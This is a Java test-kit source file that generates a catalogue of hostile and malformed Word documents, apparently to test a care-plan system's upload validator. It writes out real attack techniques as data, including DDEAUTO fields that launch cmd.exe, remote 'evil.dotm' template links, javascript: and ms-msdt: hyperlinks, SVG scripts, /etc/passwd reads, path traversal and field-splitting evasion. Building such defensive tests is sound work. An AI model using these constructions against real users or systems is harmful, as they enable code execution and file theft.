package uk.careplans.testkit;

import static java.nio.charset.StandardCharsets.UTF_8;
import static uk.careplans.testkit.WordMaker.escape;
import static uk.careplans.testkit.WordMaker.inline;
import static uk.careplans.testkit.WordMaker.word;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Supplier;

/** Word files that are sound, and run, fetch or embed something, or are no Word document. */
final class HostileContent {

    private static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    private static final String MAIN = WORD + "document.main+xml";

    private final Map<String, Supplier<byte[]>> all = new LinkedHashMap<>();

    private HostileContent() {}

    static Map<String, Supplier<byte[]>> all() {
        HostileContent content = new HostileContent();
        content.addKinds();
        content.addParts();
        content.addLinks();
        content.addMarkup();
        content.addFields();
        content.addCircles();
        return content.all;
    }

    private void addKinds() {
        retyped("a .docm", "application/vnd.ms-word.document.macroEnabled.main+xml");
        retyped("a .dotm", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml");
        retyped("a .dotx", WORD + "template.main+xml");
        retyped("a workbook", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml");
        retyped("a presentation", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml");
        retyped("a document of no known kind", "application/x-unknown");
        replaced("Strict Open XML", "_rels/.rels", OFFICE + "officeDocument",
                "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument");
        replaced("no main document", "_rels/.rels", OFFICE + "officeDocument", OFFICE + "theme");
        replaced("a main document that is not there", "_rels/.rels", "word/document.xml", "word/nowhere.xml");
        replaced("two main documents", "_rels/.rels", "</Relationships>",
                "<Relationship Id=\"second\" Type=\"" + OFFICE + "officeDocument\" Target=\"word/styles.xml\"/></Relationships>");
        replaced("styles where the document should be", "_rels/.rels", "word/document.xml", "word/styles.xml");
    }

    private void addParts() {
        part("macros", "word/vbaProject.bin", "application/vnd.ms-office.vbaProject",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject");
        part("macros under another name", "word/media/image1.png", "application/vnd.ms-office.vbaProject",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject");
        part("macros that say they are a picture", "word/image.png", "image/png",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject");
        all.put("macros of no type", () -> Docx.with(good(), "word/vbaProject.bin", new byte[] {1}));
        part("an OLE object", "word/embeddings/oleObject1.bin",
                "application/vnd.openxmlformats-officedocument.oleObject", OFFICE + "oleObject");
        part("an embedded workbook", "word/embeddings/sheet.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", OFFICE + "package");
        part("an embedded program that says it is a picture", "word/media/a.png", "image/png", OFFICE + "package");
        part("an ActiveX control", "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
                OFFICE + "control");
        part("an inserted web page", "word/chunk.htm", "text/html", OFFICE + "aFChunk");
        part("an inserted document", "word/chunk.xml", "application/xml", OFFICE + "aFChunk");
        part("a ribbon", "customUI/customUI.xml", "application/xml",
                "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility");
        part("an add-in", "word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml",
                "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes");
        part("a chart", "word/charts/chart1.xml",
                "application/vnd.openxmlformats-officedocument.drawingml.chart+xml", OFFICE + "chart");
        part("a diagram", "word/diagrams/data1.xml",
                "application/vnd.openxmlformats-officedocument.drawingml.diagramData+xml", OFFICE + "diagramData");
        part("a part of an unknown type", "word/thing.xml", "application/x-thing", OFFICE + "theme");
        part("an unknown relationship", "word/thing.xml", "application/xml", "urn:example:thing");
        part("a header that is a picture", "word/media/a.png", "image/png", OFFICE + "header");
        part("a picture that is XML", "word/a.xml", "application/xml", OFFICE + "image");
        part("a style sheet that is a header", "word/h.xml", WORD + "header+xml", OFFICE + "styles");
        all.put("a part of no type", () -> Docx.with(good(), "word/thing.xyz", new byte[] {1}));
        replaced("a type for all that end in png that is none", "[Content_Types].xml", "</Types>",
                "<Default Extension=\"xml\" ContentType=\"text/html\"/></Types>");
        replaced("two types for one part", "[Content_Types].xml", "</Types>",
                "<Override PartName=\"/word/document.xml\" ContentType=\"application/xml\"/></Types>");
        replaced("two types for one part, by case", "[Content_Types].xml", "</Types>",
                "<Override PartName=\"/WORD/document.xml\" ContentType=\"application/xml\"/></Types>");
        replaced("types of another namespace", "[Content_Types].xml", "2006/content-types", "2036/content-types");
        all.put("a drawing that runs a script", () -> svg("<script>alert(1)</script>"));
        all.put("a drawing that fetches a picture", () -> svg("<image href=\"http://127.0.0.1:9/a.png\"/>"));
        all.put("a drawing that reads a file",
                () -> svg("<image xmlns:l=\"http://www.w3.org/1999/xlink\" l:href=\"file:///etc/passwd\"/>"));
        all.put("a drawing with a style of the web", () -> svg("<style>@import 'http://127.0.0.1:9/a.css'</style>"));
        all.put("a drawing that does something when it is shown", () -> svg("<g onload=\"alert(1)\"/>"));
        all.put("a drawing that is filled from the web",
                () -> svg("<rect fill=\"url(http://127.0.0.1:9/a#b)\"/>"));
    }

    private void addLinks() {
        link("a picture of the web", "image", "https://example.org/beacon.png");
        link("a picture of a file server", "image", "\\\\server\\share\\a.png");
        link("a picture that Word has lost", "image", "NULL");
        link("a template of the web", "attachedTemplate", "https://example.org/evil.dotm");
        link("a template of a file server", "attachedTemplate", "file:////server/share/evil.dotm");
        link("an OLE object of the web", "oleObject", "mhtml:http://127.0.0.1:9/a!x-usc:http://127.0.0.1:9/a");
        link("a frame of the web", "frame", "http://127.0.0.1:9/a");
        link("a subdocument elsewhere", "subDocument", "file:///C:/secret.docx");
        link("recipients elsewhere", "mailMergeSource", "file:///C:/people.xlsx");
        link("a style sheet for other programs", "transform", "http://127.0.0.1:9/a.xsl");
        link("a film of the web", "video", "http://127.0.0.1:9/a.mp4");
        link("styles of the web", "styles", "http://127.0.0.1:9/styles.xml");
        link("a header of the web", "header", "http://127.0.0.1:9/header.xml");
        for (String address : new String[] {
            "file:///C:/secret.docx",
            "javascript:alert(1)",
            "JavaScript:alert(1)",
            "\\\\server\\share",
            "//server/share",
            "ms-word:ofe|u|http://127.0.0.1:9/a.docx",
            "search-ms:query=x",
            "ms-msdt:/id PCWDiagnostic",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "ftp://127.0.0.1/a",
            "secret.docx",
            "\u0001https://example.org"
        }) {
            link("a link to " + readable(address), "hyperlink", address);
        }
        for (String target : new String[] {
            "../../etc/passwd", "file:///etc/passwd", "http://127.0.0.1:9/a", "//server/a", "..\\..\\a", "%2e%2e/%2e%2e/a",
            "/../a"
        }) {
            replaced("a part at " + target, "word/_rels/document.xml.rels", "Target=\"styles.xml\"",
                    "Target=\"" + target + "\"");
        }
        replaced("one id for two things", "word/_rels/document.xml.rels", "Id=\"settings\"", "Id=\"styles\"");
        replaced("an unknown way of leading out", "word/_rels/document.xml.rels", "Target=\"styles.xml\"",
                "Target=\"http://127.0.0.1:9/a\" TargetMode=\"external\"");
        all.put("a picture that is referred to and not there", () -> word().xml(
                        "<w:p><w:r><w:drawing><a:blip r:embed=\"nowhere\"/></w:drawing></w:r></w:p>")
                .bytes());
    }

    private void addMarkup() {
        block("an inserted chunk without a relationship", "<w:altChunk r:id=\"x\"/>");
        block("a subdocument without a relationship", "<w:subDoc r:id=\"x\"/>");
        block("a control of forms", "<w:p><w:r><w:object><w:control w:name=\"x\" r:id=\"x\"/></w:object></w:r></w:p>");
        block("an OLE object that updates itself",
                "<w:p><w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" UpdateMode=\"Always\"/></w:object></w:r></w:p>");
        block("an old picture of the web",
                "<w:p><w:r><w:pict><v:shape><v:imagedata src=\"http://127.0.0.1:9/a.png\"/></v:shape></w:pict></w:r></w:p>");
        block("an old picture of a file server",
                "<w:p><w:r><w:pict><v:shape><v:imagedata o:href=\"\\\\server\\a.png\"/></v:shape></w:pict></w:r></w:p>");
        block("an old fill of the web",
                "<w:p><w:r><w:pict><v:rect><v:fill src=\"http://127.0.0.1:9/a.png\"/></v:rect></w:pict></w:r></w:p>");
        block("an old shape that leads to a program",
                "<w:p><w:r><w:pict><v:rect href=\"file:///C:/a.exe\"/></w:pict></w:r></w:p>");
        block("a picture that runs a macro when clicked",
                "<w:p><w:r><w:drawing><a:hlinkClick action=\"ppaction://macro\"/></w:drawing></w:r></w:p>");
        block("a video of the web",
                "<w:p><w:r><w:drawing><x:webVideoPr xmlns:x=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\""
                        + " embeddedHtml=\"&lt;iframe src='http://127.0.0.1:9'/>\"/></w:drawing></w:r></w:p>");
        all.put("web frames", () -> word().part(
                        "word/webSettings.xml",
                        ("<w:webSettings xmlns:w=\"" + W + "\"><w:frameset><w:frame/></w:frameset></w:webSettings>")
                                .getBytes(UTF_8),
                        WORD + "webSettings+xml",
                        "webSettings",
                        "web")
                .bytes());
        all.put("a style sheet when it is saved", () -> word().setting("<w:saveThroughXslt r:id=\"x\"/>").bytes());
        all.put("a macro behind a key", () -> word().part(
                        "word/customizations.xml",
                        ("<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:keymaps>"
                                + "<wne:keymap><wne:macro wne:macroName=\"X\"/></wne:keymap></wne:keymaps></wne:tcg>")
                                .getBytes(UTF_8),
                        "application/vnd.ms-word.keyMapCustomizations+xml",
                        "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations",
                        "keys")
                .bytes());
    }

    private void addFields() {
        for (String code : new String[] {
            "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
            "DDE excel x y",
            "ddeauto x y z",
            "INCLUDETEXT \"file:///etc/passwd\"",
            "INCLUDEPICTURE \"http://127.0.0.1:9/a.png\" \\d",
            "INCLUDE \"file:///etc/passwd\"",
            "IMPORT \"http://127.0.0.1:9/a.png\"",
            "LINK Excel.Sheet.12 \"C:\\\\a.xlsx\" \"A1\" \\a",
            "EMBED Excel.Sheet.12",
            "DATABASE \\d \"C:\\\\a.mdb\"",
            "RD \"C:\\\\a.docx\"",
            "ADDIN EN.CITE x",
            "PRINT \"x\"",
            "MACROBUTTON AutoOpen Click",
            "QUOTE 68 68 69",
            "IF 1 = 1 \"a\" \"b\"",
            "= 1 + 1",
            "SET x \"y\"",
            "ASK x \"Name?\"",
            "FILLIN \"Name?\"",
            "AUTOTEXT x",
            "DOCVARIABLE x",
            "GOTOBUTTON x y",
            "HYPERLINK \"file:///C:/a.docx\"",
            "HYPERLINK \"javascript:alert(1)\"",
            "HYPERLINK \"\\\\\\\\server\\\\share\"",
            "NOSUCHFIELD x",
            "D\u200BDE x"
        }) {
            all.put("the field " + readable(code), () -> word().paragraph(inline(field(code))).bytes());
        }
        all.put("a field in the short form", () -> word().paragraph(inline(
                        "<w:fldSimple w:instr=\" DDEAUTO x y \"><w:r><w:t>a</w:t></w:r></w:fldSimple>"))
                .bytes());
        all.put("a field torn letter by letter", () -> word().paragraph(inline(torn("DDEAUTO x y", "instrText"))).bytes());
        all.put("a field whose code is half plain text", () -> word().paragraph(inline(code("begin")
                        + "<w:r><w:instrText>PA</w:instrText></w:r><w:r><w:t>GE DDE</w:t></w:r>" + code("end")))
                .bytes());
        all.put("a field whose code is plain text", () -> word().paragraph(inline(torn("DDEAUTO x y", "t"))).bytes());
        all.put("a field that is deleted and tracked", () -> word().paragraph(inline(torn("DDEAUTO x y", "delInstrText")))
                .bytes());
        all.put("a field that is made by another", () -> word().paragraph(inline(code("begin") + instruction("D")
                        + code("begin") + instruction("QUOTE \"DEAUTO x y\"") + code("separate") + code("end")
                        + code("separate") + code("end")))
                .bytes());
        all.put("a field whose name a bookmark begins", () -> word().paragraph(inline(
                        "<w:bookmarkStart w:id=\"1\" w:name=\"DD\"/><w:bookmarkEnd w:id=\"1\"/>" + code("begin")
                                + instruction("DD") + code("begin") + instruction("REF a") + code("separate")
                                + "<w:r><w:t>EAUTO</w:t></w:r>" + code("end") + code("separate") + code("end")))
                .bytes());
        all.put("a field over two paragraphs", () -> word().paragraph(inline(code("begin") + instruction("DDE")))
                .paragraph(inline(instruction("AUTO x y") + code("separate") + code("end")))
                .bytes());
        all.put("a field that never ends", () -> word().paragraph(inline(code("begin") + instruction("DDEAUTO x")))
                .bytes());
        all.put("a field in a header", () -> word().header(inline(field("DDEAUTO x y"))).bytes());
        all.put("a field in a footnote", () -> word().part(
                        "word/footnotes.xml",
                        ("<w:footnotes xmlns:w=\"" + W + "\"><w:footnote w:id=\"1\"><w:p>" + field("DDEAUTO x y")
                                + "</w:p></w:footnote></w:footnotes>")
                                .getBytes(UTF_8),
                        WORD + "footnotes+xml",
                        "footnotes",
                        "notes")
                .bytes());
        all.put("a field in a building block", () -> word().part(
                        "word/glossary/document.xml",
                        ("<w:glossaryDocument xmlns:w=\"" + W + "\"><w:docParts><w:docPart><w:docPartBody><w:p>"
                                + field("DDEAUTO x y") + "</w:p></w:docPartBody></w:docPart></w:docParts>"
                                + "</w:glossaryDocument>")
                                .getBytes(UTF_8),
                        WORD + "document.glossary+xml",
                        "glossaryDocument",
                        "glossary")
                .bytes());
        all.put("21 fields within each other", () -> word().paragraph(
                        inline((code("begin") + instruction("REF a")).repeat(21) + code("end").repeat(21)))
                .bytes());
    }

    private void addCircles() {
        styles("a style based on itself", style("A", "A"));
        styles("three styles in a circle", style("A", "B") + style("B", "C") + style("C", "B"));
        styles("a style twice, in a circle the second time", style("A", "") + style("B", "A") + style("A", "B"));
        StringBuilder chain = new StringBuilder(style("S0", ""));
        StringBuilder circle = new StringBuilder(style("S0", "S4999"));
        for (int i = 1; i < 5_000; i++) {
            chain.append(style("S" + i, "S" + (i - 1)));
            circle.append(style("S" + i, "S" + (i - 1)));
        }
        styles("5,000 styles in a row", chain.toString());
        styles("5,000 styles in a circle", circle.toString());
        all.put("a list style that is defined by itself", () -> Docx.with(
                Docx.with(good(), "word/styles.xml", styles(
                        "<w:style w:type=\"numbering\" w:styleId=\"L\"><w:name w:val=\"L\"/><w:pPr><w:numPr>"
                                + "<w:numId w:val=\"7\"/></w:numPr></w:pPr></w:style>")),
                "word/numbering.xml",
                ("<w:numbering xmlns:w=\"" + W + "\"><w:abstractNum w:abstractNumId=\"5\"><w:numStyleLink w:val=\"L\"/>"
                        + "</w:abstractNum><w:num w:numId=\"7\"><w:abstractNumId w:val=\"5\"/></w:num></w:numbering>")
                        .getBytes(UTF_8)));
        all.put("a header that leads back to the document", () -> Docx.with(
                word().header("a").bytes(),
                "word/_rels/header1.xml.rels",
                relationships("<Relationship Id=\"r\" Type=\"" + OFFICE + "header\" Target=\"header1.xml\"/>")));
    }

    private static byte[] good() {
        return word().paragraph("a").bytes();
    }

    private void retyped(String name, String type) {
        replaced(name, "[Content_Types].xml", MAIN, type);
    }

    private void replaced(String name, String part, String from, String to) {
        all.put(name, () -> {
            String before = Docx.text(good(), part);
            if (!before.contains(from)) {
                throw new AssertionError(from + " is not in " + part);
            }
            return Docx.with(good(), part, before.replace(from, to).getBytes(UTF_8));
        });
    }

    private void part(String name, String part, String type, String relationship) {
        all.put(name, () -> word().paragraph("a")
                .part(part, part.endsWith(".xml") ? "<x/>".getBytes(UTF_8) : new byte[] {1}, type, relationship, "more")
                .bytes());
    }

    private void link(String name, String kind, String address) {
        all.put(name, () -> {
            byte[] linked = word().paragraph("a").link("out", kind, "ADDRESS").bytes();
            String links = Docx.text(linked, "word/_rels/document.xml.rels");
            return Docx.with(
                    linked,
                    "word/_rels/document.xml.rels",
                    links.replace("ADDRESS", escape(address).replace("\u0001", "&#xA0;")).getBytes(UTF_8));
        });
    }

    private void block(String name, String xml) {
        all.put(name, () -> word().xml(xml).bytes());
    }

    private void styles(String name, String styles) {
        all.put(name, () -> Docx.with(good(), "word/styles.xml", styles(styles)));
    }

    private static byte[] styles(String styles) {
        return ("<w:styles xmlns:w=\"" + W + "\">" + styles + "</w:styles>").getBytes(UTF_8);
    }

    private static String style(String id, String basedOn) {
        return "<w:style w:type=\"paragraph\" w:styleId=\"" + id + "\"><w:name w:val=\"" + id + "\"/><w:basedOn w:val=\""
                + basedOn + "\"/></w:style>";
    }

    private static byte[] relationships(String each) {
        return ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + each
                        + "</Relationships>")
                .getBytes(UTF_8);
    }

    private static byte[] svg(String content) {
        return word().paragraph("a")
                .part(
                        "word/media/a.svg",
                        ("<svg xmlns=\"http://www.w3.org/2000/svg\">" + content + "</svg>").getBytes(UTF_8),
                        "image/svg+xml",
                        "image",
                        "drawing")
                .bytes();
    }

    private static String field(String code) {
        return code("begin") + instruction(code) + code("separate") + "<w:r><w:t>a</w:t></w:r>" + code("end");
    }

    private static String torn(String code, String element) {
        StringBuilder torn = new StringBuilder(code("begin"));
        code.chars().forEach(letter -> torn.append("<w:r><w:").append(element).append(" xml:space=\"preserve\">")
                .append((char) letter).append("</w:").append(element).append("></w:r>"));
        return torn + code("separate") + code("end");
    }

    private static String instruction(String code) {
        return "<w:r><w:instrText xml:space=\"preserve\">" + escape(code) + "</w:instrText></w:r>";
    }

    private static String code(String type) {
        return "<w:r><w:fldChar w:fldCharType=\"" + type + "\"/></w:r>";
    }

    private static String readable(String text) {
        StringBuilder readable = new StringBuilder();
        text.codePoints()
                .forEach(c -> readable.append(c < 0x7F && c >= ' ' ? Character.toString(c) : "U+%04X".formatted(c)));
        return readable.toString();
    }
}
